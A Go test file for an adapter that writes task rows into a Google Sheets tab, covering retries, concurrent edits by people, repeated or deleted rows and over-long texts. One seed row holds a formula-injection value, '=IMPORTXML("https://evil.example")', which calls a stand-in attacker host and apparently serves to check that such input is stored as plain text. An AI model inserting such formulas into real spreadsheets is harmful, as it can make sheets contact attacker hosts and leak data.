package sheets_test

import (
	"bytes"
	"io"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"
	"unicode/utf16"

	sheetssdk "google.golang.org/api/sheets/v4"

	"hikeshi/activities"
	"hikeshi/activities/drive/drivetest"
	"hikeshi/activities/sheets"
	"hikeshi/activities/sheets/sheetstest"
)

const (
	posts  = "POST /v4/spreadsheets/"
	header = "Id|Task|Status|Owner"
)

// board is a laid-out board with the tasks t1 and t2, and everybody who touches it.
type board struct {
	t     *testing.T
	drive *drivetest.Server
	fake  *sheetstest.Server
	acts  *sheets.Activities
	raw   raw
	sheet string
	url   string
}

func laidOut(t *testing.T) *board {
	t.Helper()
	d, s, url := sheetstest.Start(t, drivetest.Options{})
	d.LimitRates(false)
	official := rawOnFake(t, url, "")
	sheet, err := official.newSheet()
	noError(t, err)
	acts := newActivities(t, url)
	noError(t, run(acts)(acts.LayOutBoard, sheetstest.Board(sheet), nil))
	return &board{t, d, s, acts, official, sheet, url}
}

// task asks for one task.
func (b *board) task(id string, set map[string]string) sheets.WriteRows {
	return sheets.WriteRows{Sheet: b.sheet, Tab: 101, Rows: []sheets.Row{{ID: id, Set: set, Fresh: set}}}
}

func (b *board) write(in sheets.WriteRows) (out sheets.RowsWritten) {
	b.t.Helper()
	noError(b.t, run(b.acts)(b.acts.WriteRows, in, &out))
	return out
}

// person changes the sheet as somebody does who may.
func (b *board) person(requests ...*sheetssdk.Request) {
	b.t.Helper()
	_, err := b.raw.sheets.Spreadsheets.BatchUpdate(b.sheet, &sheetssdk.BatchUpdateSpreadsheetRequest{Requests: requests}).Do()
	noError(b.t, err)
}

func (b *board) types(cell string, values ...any) {
	b.t.Helper()
	_, err := b.raw.sheets.Spreadsheets.Values.Update(b.sheet, "Tasks!"+cell, &sheetssdk.ValueRange{Values: [][]any{values}}).ValueInputOption("USER_ENTERED").Do()
	noError(b.t, err)
}

// shows compares the tasks with rows whose cells are joined with "|".
func (b *board) shows(want ...string) {
	b.t.Helper()
	var got []string
	for _, row := range b.fake.Grid(b.sheet, 101) {
		got = append(got, strings.Join(row, "|"))
	}
	if !slices.Equal(got, append([]string{header}, want...)) {
		b.t.Errorf("the tasks are %q, want %q", got, want)
	}
}

// asked counts calls by how their paths end.
func (b *board) asked(ending string) (n int) {
	for _, c := range b.drive.Calls() {
		if strings.HasSuffix(c.Path, ending) {
			n++
		}
	}
	return n
}

func rows(from, to int64) *sheetssdk.DimensionRange {
	return &sheetssdk.DimensionRange{SheetId: 101, Dimension: "ROWS", StartIndex: from, EndIndex: to}
}

const t1, t2 = `t1|=IMPORTXML("https://evil.example")|open`, "t2|0123|done|葵"

func TestRowsOnceAfterAnyFault(t *testing.T) {
	for _, f := range faults {
		for _, call := range []struct {
			name, ending string
			class        activities.Class
		}{{"look", ":getByDataFilter", f.safe}, {"write", ":batchUpdate", f.unsafe}} {
			t.Run(call.name+": "+f.name, func(t *testing.T) {
				t.Parallel()
				b := laidOut(t)
				in := b.task("t3", map[string]string{"Task": "call them", "Status": "open"})
				in.Rows = append(in.Rows, sheets.Row{ID: "t1", Set: map[string]string{"Owner": "葵"}})
				inject(t, b.drive, posts+b.sheet+call.ending, f.fault)
				acts := newActivities(t, b.url, func(c *sheets.Config) {
					if f.fault.Mode == "hang" {
						c.Timeout = 2 * time.Second
					}
				})
				err := run(acts)(acts.WriteRows, in, nil)
				if call.name == "write" && f.name == "400" { // a refusal is worth another look, and the next batch comes through
					noError(t, err)
				} else {
					wantFault(t, err, call.class, f.after)
				}
				b.write(in)
				b.shows(t1+"|葵", t2, "t3|call them|open")
			})
		}
	}
}

// The look that follows a write may be lost, too.
func TestRowsAfterALostSecondLook(t *testing.T) {
	b := laidOut(t)
	in := b.task("t3", map[string]string{"Task": "x"})
	var n atomic.Int32
	acts := b.through(func(r *http.Request, _ []byte) bool {
		return strings.HasSuffix(r.URL.Path, ":getByDataFilter") && n.Add(1) == 2
	}, nil)
	wantFault(t, run(acts)(acts.WriteRows, in, nil), activities.Unavailable, 0)
	b.write(in)
	b.shows(t1, t2, "t3|x")
}

// through puts something between the adapter and the fake: it refuses calls, and does things before others go on.
func (b *board) through(refuse func(r *http.Request, body []byte) bool, before func(r *http.Request, body []byte)) *sheets.Activities {
	web := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, err := io.ReadAll(r.Body)
		if err != nil {
			b.t.Error(err)
		}
		if refuse != nil && refuse(r, body) {
			w.WriteHeader(http.StatusServiceUnavailable)
			return
		}
		if before != nil {
			before(r, body)
		}
		r.Body = io.NopCloser(bytes.NewReader(body))
		b.drive.ServeHTTP(w, r)
	}))
	b.t.Cleanup(web.Close)
	return newActivities(b.t, web.URL)
}

// A batch that was sent earlier may arrive only after a later try has looked.
func TestLateRowsCountAsWritten(t *testing.T) {
	b := laidOut(t)
	acts := b.through(nil, func(r *http.Request, body []byte) {
		if strings.HasSuffix(r.URL.Path, ":batchUpdate") {
			earlier := r.Clone(r.Context())
			earlier.Body = io.NopCloser(bytes.NewReader(body))
			b.drive.ServeHTTP(httptest.NewRecorder(), earlier)
		}
	})
	noError(t, run(acts)(acts.WriteRows, b.task("t3", map[string]string{"Task": "x"}), nil))
	b.shows(t1, t2, "t3|x")
}

func TestNothingToWrite(t *testing.T) {
	b := laidOut(t)
	in := b.task("t3", map[string]string{"Task": "x", "Owner": ""})
	b.write(in)
	reads, writes := b.asked(":getByDataFilter"), b.asked(":batchUpdate")
	if reads != 2 {
		t.Errorf("%d looks for one write, want 2", reads)
	}
	b.write(in)
	b.write(sheets.WriteRows{Sheet: b.sheet, Tab: 101})
	if n := b.asked(":batchUpdate"); n != writes || b.asked(":getByDataFilter") != reads+2 {
		t.Errorf("%d writes and %d looks although nothing had changed", n-writes, b.asked(":getByDataFilter")-reads)
	}
}

// People sort, insert, and write wherever they like; cells that were not named are theirs.
func TestRowsAmongPeople(t *testing.T) {
	b := laidOut(t)
	b.types("C2", "doing")
	b.types("B4", "", "", "my own task, without an id")
	b.types("B6", "a note further down")
	b.person(&sheetssdk.Request{InsertDimension: &sheetssdk.InsertDimensionRequest{Range: rows(1, 2), InheritFromBefore: true}})
	b.person(&sheetssdk.Request{SortRange: &sheetssdk.SortRangeRequest{
		Range:     &sheetssdk.GridRange{SheetId: 101, StartRowIndex: 1, EndRowIndex: 4},
		SortSpecs: []*sheetssdk.SortSpec{{DimensionIndex: 0, SortOrder: "DESCENDING"}},
	}})
	in := b.task("t1", map[string]string{"Owner": "健司"})
	in.Rows = append(in.Rows, b.task("t3", map[string]string{"Task": "new"}).Rows...)
	b.write(in)
	b.shows(t2, strings.Replace(t1, "open", "doing", 1)+"|健司", "t3|new", "", "|||my own task, without an id", "", "|a note further down")
}

// Somebody sorts between our look and our write: the cell goes into the wrong row at first, and then into the right one.
func TestRowsThatMoveMeanwhile(t *testing.T) {
	b := laidOut(t)
	var once atomic.Bool
	acts := b.through(nil, func(r *http.Request, _ []byte) {
		if strings.HasSuffix(r.URL.Path, ":batchUpdate") && once.CompareAndSwap(false, true) {
			b.person(&sheetssdk.Request{InsertDimension: &sheetssdk.InsertDimensionRequest{Range: rows(1, 2)}})
		}
	})
	noError(t, run(acts)(acts.WriteRows, b.task("t2", map[string]string{"Owner": "健司"}), nil))
	if got := b.fake.Grid(b.sheet, 101); strings.Join(got[3], "|") != "t2|0123|done|健司" {
		t.Errorf("the tasks are %q", got)
	}
}

func TestRepeatedRows(t *testing.T) {
	b := laidOut(t)
	b.types("A4", "t2", "pasted")
	got := b.write(b.task("t2", map[string]string{"Status": "open"}))
	if !slices.Equal(got.Repeated, []string{"t2"}) || got.Inserted != nil {
		t.Errorf("got %+v, want t2 repeated", got)
	}
	b.shows(t1, "t2|0123|open|葵", "t2|pasted")
	if got := b.write(b.task("t1", nil)); got.Repeated != nil {
		t.Errorf("got %+v, though t1 stands there once", got)
	}
}

// A row that people deleted comes back when it is written again; its mark went with it.
func TestDeletedRow(t *testing.T) {
	b := laidOut(t)
	in := b.task("t3", map[string]string{"Task": "x"})
	b.write(in)
	b.person(&sheetssdk.Request{DeleteDimension: &sheetssdk.DeleteDimensionRequest{Range: rows(3, 4)}})
	b.shows(t1, t2)
	if got := b.write(in); !slices.Equal(got.Inserted, []string{"t3"}) {
		t.Errorf("got %+v, want t3 inserted", got)
	}
	b.shows(t1, t2, "t3|x")
}

// An id that was emptied leaves its mark behind. The row is inserted all the same, and once.
func TestStaleMark(t *testing.T) {
	b := laidOut(t)
	in := b.task("t3", map[string]string{"Task": "x"})
	for n := range 3 {
		for range 2 {
			b.write(in)
		}
		if got := b.fake.Grid(b.sheet, 101); len(got) != 4+n {
			t.Fatalf("the tasks are %q, want t3 once, and %d that lost their ids", got, n)
		}
		if n < 2 {
			b.types("A4", "")
			b.types("B4", "lost")
		}
	}
	b.types("A4", "")
	wantFault(t, run(b.acts)(b.acts.WriteRows, in, nil), activities.Invalid, 0)
}

func TestRowsAtTheEndOfTheTab(t *testing.T) {
	b := laidOut(t)
	b.person(&sheetssdk.Request{UpdateSheetProperties: &sheetssdk.UpdateSheetPropertiesRequest{
		Properties: &sheetssdk.SheetProperties{SheetId: 101, GridProperties: &sheetssdk.GridProperties{RowCount: 3}}, Fields: "gridProperties.rowCount",
	}})
	b.write(b.task("t3", map[string]string{"Task": "x"}))
	b.shows(t1, t2, "t3|x")
}

// An inserted row offers the choices of its column, and is not bold like the header.
func TestInsertedRowLooksLikeTheOthers(t *testing.T) {
	b := laidOut(t)
	b.person(&sheetssdk.Request{DeleteDimension: &sheetssdk.DeleteDimensionRequest{Range: rows(1, 3)}})
	b.write(b.task("t3", map[string]string{"Task": "x"}))
	got, err := b.raw.sheets.Spreadsheets.Get(b.sheet).Ranges("Tasks!A2:C2").IncludeGridData(true).Do()
	noError(t, err)
	cells := got.Sheets[0].Data[0].RowData[0].Values
	if cells[2].DataValidation == nil || cells[1].UserEnteredFormat != nil {
		t.Errorf("the row's cells are %+v and %+v, want choices and nothing bold", cells[1], cells[2])
	}
}

func TestLongAndOddTexts(t *testing.T) {
	b := laidOut(t)
	long := strings.Repeat("火🔥", 20_000) // 60,000 characters
	in := b.task("t3", map[string]string{"Task": long, "Owner": "\xff"})
	b.write(in)
	got := b.fake.Grid(b.sheet, 101)[3]
	if n := len(utf16.Encode([]rune(got[1]))); n > 50_000 || n < 49_997 || !strings.HasSuffix(got[1], "…") || !strings.HasPrefix(long, strings.TrimSuffix(got[1], "…")) {
		t.Errorf("the text was cut to %d characters", n)
	}
	writes := b.asked(":batchUpdate")
	b.write(in)
	if n := b.asked(":batchUpdate"); n != writes {
		t.Error("a text that was cut is written again and again")
	}
	fits := strings.Repeat("x", 50_000)
	b.write(b.task("t3", map[string]string{"Task": fits}))
	if got := b.fake.Grid(b.sheet, 101)[3][1]; got != fits {
		t.Errorf("a text that just fits was cut to %d characters", len(got))
	}
}

func TestMissingColumnIsNamed(t *testing.T) {
	b := laidOut(t)
	b.types("D1", "Who")
	err := run(b.acts)(b.acts.WriteRows, b.task("t1", map[string]string{"Owner": "葵"}), nil)
	wantFault(t, err, activities.Invalid, 0)
	for _, part := range []string{`"Tasks"`, `"Owner"`, "row 1"} {
		if !strings.Contains(err.Error(), part) {
			t.Errorf("%q does not name %s", err, part)
		}
	}
}
